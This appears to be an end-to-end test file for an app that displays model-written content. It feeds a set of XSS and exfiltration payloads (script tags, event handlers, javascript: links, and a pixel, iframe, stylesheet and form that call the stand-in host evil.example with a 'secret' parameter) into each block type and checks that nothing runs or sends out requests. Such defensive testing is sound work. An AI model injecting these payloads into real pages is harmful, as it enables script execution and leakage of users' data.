import { expect, test } from '../support/test';

const EVIL = 'evil.example';

/** Text that tries to run, to load or to send, in every place where a model's words are shown. */
const TEXT = [
  '<script>window.broken = 1; fetch("https://evil.example/script")</script>',
  '<img src=x onerror="window.broken = 1">',
  `![pixel](https://${EVIL}/pixel.png?secret=1)`,
  `<iframe src="https://${EVIL}/frame"></iframe>`,
  '<svg onload="window.broken = 1"></svg>',
  '[click](javascript:window.broken=1)',
  `<link rel="stylesheet" href="https://${EVIL}/style.css">`,
  `<style>@import "https://${EVIL}/import.css"; * { background: url(https://${EVIL}/bg) }</style>`,
  '<form action="https://evil.example/form"><input autofocus onfocus="window.broken=1"></form>',
].join('\n\n');

test('nothing that a model writes runs or sends anything', async ({ lab, page }) => {
  const gone: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname !== 'localhost') gone.push(request.url());
  });
  const blocks: [string, unknown][] = [
    ['Note', { type: 'markdown', text: TEXT }],
    ['Callout', { type: 'callout', tone: 'info', title: TEXT, text: TEXT }],
    ['Card', { type: 'card', title: TEXT, subtitle: TEXT, text: TEXT, facts: [[TEXT, TEXT]] }],
    ['List', { type: 'list', items: [{ title: TEXT, text: TEXT }] }],
    ['Table', { type: 'table', columns: [{ key: 'a', label: '<b onclick=1>A</b>' }], rows: [{ a: TEXT }] }],
    ['Board', { type: 'kanban', columns: [{ id: 'x', title: TEXT, cards: [{ id: 'y', title: TEXT, text: TEXT, tags: [TEXT] }] }] }],
    ['Chart', { type: 'chart', kind: 'bar', labels: [TEXT, 'b'], series: [{ name: TEXT, values: [1, 2] }] }],
  ];
  for (const [index, [title, data]] of blocks.entries()) {
    await lab.put(`${title} <img src=x onerror=window.broken=1>`, { kind: 'data', data }, {
      x: (index % 4) * 320,
      y: Math.floor(index / 4) * 260,
      width: 300,
      height: 240,
    });
  }
  await lab.put('Terminal', { kind: 'show', data: { type: 'terminal', command: TEXT, output: `\u001b]8;;https://${EVIL}\u0007x${TEXT}` } });
  await lab.put('Code', { kind: 'show', data: { type: 'code', code: TEXT, language: 'html"><script>' } });
  await lab.put('Document', { kind: 'show', data: { type: 'document', text: TEXT } });
  await lab.say(TEXT.replaceAll('\n\n', ' '));
  await lab.settled();

  // As the server renders it, and as the browser draws it.
  for (const round of ['first', 'again']) {
    if (round === 'again') await page.reload();
    await lab.ready();
    await lab.showCanvas();
    for (const [title] of [...blocks, ['Terminal'], ['Code'], ['Document']] as [string][]) {
      await page.keyboard.press('Escape');
      await lab.canvas.focus();
      await page.keyboard.press('f');
      await page.getByRole('combobox', { name: 'Find a node' }).fill(title);
      await page.keyboard.press('Enter');
      await expect(lab.block(title).first().locator('.node-body > *').first()).toBeAttached();
    }
    expect(await page.evaluate(() => (window as any).broken), round).toBeUndefined();
    const main = page.locator('#main');
    for (const bad of ['script', 'iframe', 'form[action]', 'style', 'link', '[onerror]', '[onload]', '[onclick]', 'a[href^="javascript" i]', `img[src*="${EVIL}"]`]) {
      await expect(main.locator(bad), bad).toHaveCount(0);
    }
  }
  expect(gone, 'requests to elsewhere').toEqual([]);
});

test('a bad spec is refused with the field that is wrong', async ({ lab, page }) => {
  const origin = new URL(page.url()).origin;
  const answer = await page.request.post(`${origin}/api/v1/projects/${await lab.project()}/blocks`, {
    headers: { origin, 'sec-fetch-site': 'same-origin' },
    data: { title: 'x', content: { kind: 'data', data: { type: 'chart', kind: 'bar', labels: ['a'], series: [{ name: 's', values: [1, 2] }] } } },
  });
  expect(answer.status()).toBe(422);
  expect(await answer.text()).toContain('series');
});
